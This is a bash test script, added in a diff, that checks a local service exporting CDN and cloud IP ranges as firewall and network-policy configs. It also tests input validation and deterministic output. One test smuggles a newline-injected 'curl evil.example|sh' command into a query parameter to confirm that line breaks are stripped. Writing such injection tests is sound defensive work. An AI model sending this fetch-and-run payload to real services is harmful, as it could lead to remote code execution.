@@ -0,0 +1,90 @@
+#!/bin/bash
+
+combinations=(
+	"/v1/cloudflare?ipv4=true&format=nftables|set cloudflare_v4 {"
+	"/v1/cloudflare?ipv6=true&format=nftables-table|table inet cloudflare {"
+	"/v1/cloudflare?ipv4=false&format=nftables|set cloudflare_v6 {"
+	"/v1/aws?ipv4=true&format=ipset&name=aws_edge|create aws_edge_v4 hash:net family inet"
+	"/v1/ranges?provider=cloudflare&family=ipv6&format=iptables|ip6tables -A cloudflare -s"
+	"/v1/ranges?provider=cloudflare&format=pf&name=cdn|table <cdn_v4> persist {"
+	"/v1/cloudflare?ipv4=true&format=pf|# Providers: cloudflare"
+	"/v1/cloudflare?ipv4=true&format=nginx-realip|set_real_ip_from 104.16.0.0/13;"
+	"/v1/cloudflare?format=nginx-realip|set_real_ip_from 2400:cb00::/32;"
+	"/v1/fastly?format=haproxy|# Providers: fastly"
+	"/v1/aws?ipv4=true&format=nginx-allow|deny all;"
+	"/v1/ranges?provider=cloudflare&format=haproxy|104.16.0.0/13"
+	"/v1/aws?ipv4=true&format=apache|Require ip "
+	"/v1/cloudflare?ipv6=true&format=caddy|trusted_proxies static "
+	"/v1/cloudflare?ipv4=true&format=envoy&name=cdn|      cdn:"
+	"/v1/cloudflare?ipv4=true&format=aws-security-group&max_entries_per_rule=2|\"GroupName\": \"cloudflare-2\""
+	"/v1/cloudflare?ipv6=true&format=aws-prefix-list|\"PrefixListName\": \"cloudflare-ipv6-1\""
+	"/v1/ranges?provider=cloudflare&format=gcp-firewall&name=cdn_edge&max_entries_per_rule=1|\"name\": \"cdn-edge-ipv4-2\""
+	"/v1/cloudflare?ipv4=true&format=azure-nsg|\"sourceAddressPrefixes\""
+	"/v1/cloudflare?ipv4=true&format=k8s-networkpolicy&namespace=web&ports=443|  namespace: web"
+	"/v1/ranges?provider=cloudflare&format=calico-globalnetworkset&name=cdn_edge|  name: cdn-edge"
+	"/v1/cloudflare?ipv6=true&format=cilium-networkpolicy&direction=egress|    - toCIDRSet:"
+)
+
+for combo in "${combinations[@]}"; do
+	IFS="|" read -r path expected <<< "$combo"
+	body=$(curl -s "http://localhost:8000$path")
+	if [[ "$body" != *"$expected"* ]]; then
+		echo "Export test failed for path: $path. Expected output containing: $expected"
+		exit 1
+	else
+		echo "Export test passed for path: $path. Output contains: $expected"
+	fi
+done
+
+body=$(curl -s "http://localhost:8000/v1/cloudflare?format=iptables&foo=x%0Acurl%20evil.example%7Csh")
+body+=$(curl -s "http://localhost:8000/v1/lookup?ip=104.16.0.1%0A&format=iptables")
+if grep -q "^curl\|foo=" <<< "$body" || ! grep -qF 'ip=104.16.0.1\n' <<< "$body"; then
+	echo "Export test failed for line breaks in parameters. Expected them dropped or escaped"
+	exit 1
+else
+	echo "Export test passed for line breaks in parameters"
+fi
+
+status=$(curl -s -o /dev/null -w "%{http_code}" "http://localhost:8000/v1/cloudflare?ipv4=true&format=ipset&name=bad%20name")
+if [ "$status" -ne 400 ]; then
+	echo "Export test failed for invalid set name. Expected 400, got $status"
+	exit 1
+else
+	echo "Export test passed for invalid set name. Expected and got $status"
+fi
+
+# Kubernetes and Compute Engine resource names must end with a letter or digit, set names need not
+for format in k8s-networkpolicy calico-globalnetworkset cilium-networkpolicy gcp-firewall; do
+	status=$(curl -s -o /dev/null -w "%{http_code}" "http://localhost:8000/v1/cloudflare?format=$format&name=web-")
+	if [ "$status" -ne 400 ]; then
+		echo "Export test failed for resource name ending with - in $format. Expected 400, got $status"
+		exit 1
+	else
+		echo "Export test passed for resource name ending with - in $format. Expected and got $status"
+	fi
+done
+
+status=$(curl -s -o /dev/null -w "%{http_code}" "http://localhost:8000/v1/cloudflare?format=ipset&name=web-")
+if [ "$status" -ne 200 ]; then
+	echo "Export test failed for set name ending with -. Expected 200, got $status"
+	exit 1
+else
+	echo "Export test passed for set name ending with -. Expected and got $status"
+fi
+
+status=$(curl -s -o /dev/null -w "%{http_code}" "http://localhost:8000/v1/cloudflare?ipv4=true&format=gcp-firewall&max_entries_per_rule=0")
+if [ "$status" -ne 400 ]; then
+	echo "Export test failed for invalid max_entries_per_rule. Expected 400, got $status"
+	exit 1
+else
+	echo "Export test passed for invalid max_entries_per_rule. Expected and got $status"
+fi
+
+first=$(curl -s "http://localhost:8000/v1/cloudflare?ipv4=true&format=k8s-networkpolicy&ports=443,80")
+second=$(curl -s "http://localhost:8000/v1/cloudflare?ports=80,443&format=k8s-networkpolicy&ipv4=true")
+if [ "$first" != "$second" ]; then
+	echo "Export test failed for deterministic NetworkPolicy output"
+	exit 1
+else
+	echo "Export test passed for deterministic NetworkPolicy output"
+fi